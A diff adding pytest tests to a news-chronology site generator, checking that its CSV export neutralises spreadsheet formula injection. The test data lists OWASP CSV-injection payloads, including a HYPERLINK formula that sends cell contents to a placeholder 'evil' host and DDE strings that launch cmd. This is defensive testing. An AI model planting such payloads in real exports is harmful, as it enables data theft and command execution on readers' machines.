@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import copy
 import csv
 import io
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -14,6 +16,9 @@ from briefgen.cli import cli
 from briefgen.commands.build import build, load_corpus
 from briefgen.commands.eval_chronology import evaluate, load_gold
 from briefgen.config import load_config
+from briefgen.memory import ArticleMemory, MemoryEntry, dump_memory, sentence_key
+from briefgen.pipeline.split import segment
+from briefgen.site.exports import chronology_csv
 from briefgen.structure.corpus import Corpus
 from tests.htmlcheck import page_file
 
@@ -143,6 +148,90 @@ def test_differing_casualty_figures_stay_visible(project: Path, write_article) -
     assert sorted(f["value"] for f in entry["figures"]) == [12, 15] and entry["figures_disagree"]
     page = page_file(result.site_dir, "chronology/benghazi-2016/").read_text(encoding="utf-8")
     assert "Figures differ between reports: 12 (Wire A) · 15 (Wire B)" in page
+
+
+# What a spreadsheet would run as a formula, one per character that starts one (OWASP "CSV Injection").
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def chronology_record(text: str, *, lon: float = 20.07) -> dict[str, Any]:
+    """A `chronology.json` record with `text` in every free-text field."""
+    return {
+        "id": "2016-11-17-capture-qawarsha",
+        "date_start": "2016-11-17",
+        "date_end": "2016-11-17",
+        "precision": "day",
+        "campaign": "benghazi-2016",
+        "type": "capture",
+        "type_label": "Capture or withdrawal",
+        "places": [{"id": "qawarsha", "en": text, "ar": text, "lat": 32.07, "lon": lon}],
+        "actors": [{"id": "a", "en": text, "ar": text}, {"id": "b", "en": text, "ar": text}],
+        "text_ar": text,
+        "text_en": text,
+        "figures": [{"value": 12, "article": "2016-11-19-a"}],
+        "figures_disagree": False,
+        "sources": [{"source": text, "published": "2016-11-19"}],
+    }
+
+
+def test_chronology_csv_keeps_formulas_as_text_and_numbers_as_numbers() -> None:
+    records = [chronology_record(formula, lon=-5.2) for formula in FORMULAS]
+    records.append(chronology_record("Forces took Qawarsha = 12 km from -5 @ +1"))
+    before = copy.deepcopy(records)
+    text = chronology_csv(records)
+    assert text.count(",32.07,-5.2,") == len(FORMULAS), (
+        "coordinates unquoted, the longitude a negative number"
+    )
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert records == before, "the records (and so chronology.json) stay as they are"
+    assert len(rows) == len(records)
+    for formula, row in zip(FORMULAS, rows[: len(FORMULAS)], strict=True):
+        # A carriage return is kept as a line break the csv module quotes.
+        shown = formula.replace("\r", "\n")
+        for column in ("actor1", "assoc_actors", "location", "notes", "notes_ar"):
+            assert row[column] == "'" + shown, column
+        assert row["sources"] == f"'{shown} 2016-11-19"
+        assert (row["latitude"], row["longitude"], row["fatalities"]) == ("32.07", "-5.2", "12")
+        assert (row["event_date"], row["date_end"], row["year"], row["time_precision"]) == (
+            "2016-11-17",
+            "2016-11-17",
+            "2016",
+            "1",
+        )
+        assert (row["event_id"], row["campaign"]) == ("2016-11-17-capture-qawarsha", "benghazi-2016")
+    plain = rows[-1]
+    assert plain["notes"] == plain["actor1"] == "Forces took Qawarsha = 12 km from -5 @ +1"
+    assert plain["longitude"] == "20.07"
+
+
+def test_a_formula_in_an_article_is_text_in_the_csv_and_unchanged_in_the_json(
+    project: Path, write_article
+) -> None:
+    slug = "2016-09-12-oil-ports"
+    source = FORMULAS[0]
+    english = "@SUM(1+1) Army forces took the oil port of Ras Lanuf."
+    write_article(f"{slug}.md", OIL_PORTS.replace("source: Test Wire", f"source: '{source}'"))
+    (sentence,) = [s for s in segment(OIL_PORTS.split("---\n", 2)[2]) if s.kind != "heading"]
+    memory = ArticleMemory(
+        slug, (MemoryEntry(sentence_key(sentence.text), "sentence", sentence.text, english, "reviewed"),)
+    )
+    (project / "content" / "translations" / f"{slug}.yml").write_text(dump_memory(memory), encoding="utf-8")
+    site = build(project / "site_config.yml").site_dir
+    records = json.loads((site / "data" / "chronology.json").read_text(encoding="utf-8"))
+    (record,) = [r for r in records if any(s["article"] == slug for s in r["sources"])]
+    assert (record["text_en"], record["sources"][0]["source"]) == (english, source)
+    rows = csv.DictReader(io.StringIO((site / "data" / "chronology.csv").read_text(encoding="utf-8")))
+    (row,) = [r for r in rows if r["event_id"] == record["id"]]
+    assert row["notes"] == "'" + english
+    assert row["sources"] == f"'{source} 2016-09-12"
+    assert float(row["longitude"]) == record["places"][0]["lon"]
 
 
 def test_exports_follow_their_schemas(seed_site: Path) -> None:
